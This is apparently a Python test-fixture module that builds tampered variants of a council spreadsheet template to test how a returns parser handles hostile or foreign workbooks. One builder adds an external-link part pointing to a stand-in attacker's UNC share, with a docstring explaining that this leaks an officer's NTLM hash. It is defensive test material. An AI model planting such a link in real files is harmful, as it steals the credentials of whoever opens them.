"""Return workbooks edited as a foreign program or an attacker would write them: the
council's template with its XML changed, parts added or removed, or namespaces swapped."""

from __future__ import annotations

import io
import re
from collections.abc import Callable

import openpyxl

from .hostile_files import build_zip, edit_parts, zip_parts
from .monitoring.test_return_spreadsheets import REF, rewrite_sheet, template

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def cell(ref: str, xml: str) -> Callable[[], bytes]:
    """The template with one cell's XML replaced."""

    def change(sheet: str) -> str:
        return re.sub(rf'<c r="{ref}"[^>]*?(/>|>.*?</c>)', lambda _: xml, sheet, count=1)

    return lambda: rewrite_sheet(template(), change)


def sheet_xml(change: Callable[[str], str]) -> Callable[[], bytes]:
    return lambda: rewrite_sheet(template(), change)


def with_openpyxl(change: Callable) -> Callable[[], bytes]:
    """The template changed by a spreadsheet library, as a person's program would save it."""

    def make() -> bytes:
        book = openpyxl.load_workbook(io.BytesIO(template()))
        change(book["Return"])
        out = io.BytesIO()
        book.save(out)
        return out.getvalue()

    return make


def shared_strings(b2_index: str) -> bytes:
    """The template with a shared-strings part (as Excel writes text), B2 pointing into it."""
    sst = (
        f'<sst xmlns="{MAIN}" count="2" uniqueCount="2">'
        f"<si><t>{REF}</t></si><si><t>spare</t></si></sst>"
    )
    data = rewrite_sheet(
        template(),
        lambda x: re.sub(
            r'<c r="B2"[^>]*?>.*?</c>', f'<c r="B2" t="s"><v>{b2_index}</v></c>', x, count=1
        ),
    )
    parts = zip_parts(data)
    parts["xl/sharedStrings.xml"] = sst.encode()
    parts["[Content_Types].xml"] = (
        parts["[Content_Types].xml"]
        .decode()
        .replace(
            "</Types>",
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        )
        .encode()
    )
    parts["xl/_rels/workbook.xml.rels"] = (
        parts["xl/_rels/workbook.xml.rels"]
        .decode()
        .replace(
            "</Relationships>",
            f'<Relationship Type="{RELS}/sharedStrings" Target="sharedStrings.xml" Id="rId9"/>'
            "</Relationships>",
        )
        .encode()
    )
    return _zip(parts)


def _zip(parts: dict[str, bytes]) -> bytes:
    return build_zip(parts)


def external_link(formula: str | None) -> bytes:
    """A workbook whose formulas reach into another workbook (an NTLM hash leaks the moment
    an officer's Excel follows a \\\\server\\share link)."""
    data = template()
    if formula:
        data = rewrite_sheet(
            data,
            lambda x: re.sub(
                r'<c r="B12"([^>]*?)/>', rf'<c r="B12"\1><f>{formula}</f><v>75</v></c>', x, count=1
            ),
        )
    parts = zip_parts(data)
    parts["xl/externalLinks/externalLink1.xml"] = (
        f'<externalLink xmlns="{MAIN}" xmlns:r="{RELS}"><externalBook r:id="rId1">'
        '<sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>'
    ).encode()
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{RELS}/externalLinkPath" '
        'Target="file:///\\\\attacker\\share\\Book1.xlsx" TargetMode="External"/></Relationships>'
    ).encode()
    return _zip(parts)


def strict_open_xml() -> bytes:
    """What Excel writes for "Strict Open XML Spreadsheet": the same parts, other namespaces."""

    def strict(text: str) -> str:
        return text.replace(MAIN, "http://purl.oclc.org/ooxml/spreadsheetml/main").replace(
            RELS, "http://purl.oclc.org/ooxml/officeDocument/relationships"
        )

    parts = ("xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/_rels/workbook.xml.rels")
    return edit_parts(template(), dict.fromkeys(parts, strict))


def without(name: str) -> bytes:
    parts = zip_parts(template())
    del parts[name]
    return _zip(parts)


def swap_rows(xml: str) -> str:
    row7 = re.search(r'<row r="7".*?</row>', xml)[0]
    row12 = re.search(r'<row r="12".*?</row>', xml)[0]
    return xml.replace(row7, "\0").replace(row12, row7).replace("\0", row12)
